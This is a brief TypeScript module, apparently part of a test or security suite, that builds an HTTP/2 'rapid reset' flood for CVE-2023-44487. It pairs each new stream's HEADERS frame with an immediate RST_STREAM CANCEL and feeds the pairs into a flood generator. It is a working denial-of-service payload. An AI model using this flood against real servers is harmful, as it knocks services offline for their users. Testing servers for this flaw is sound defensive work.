/** CVE-2023-44487: requests that are reset as soon as begun. */
import { Buffer } from 'node:buffer';
import { reset } from '../../support/http2-frames.ts';
import { callHeaders, floodOf } from './http2-flood.ts';

const CANCEL = 8;

export const rapidReset = floodOf((i) => Buffer.concat([callHeaders(2 * i + 1), reset(2 * i + 1, CANCEL)]));
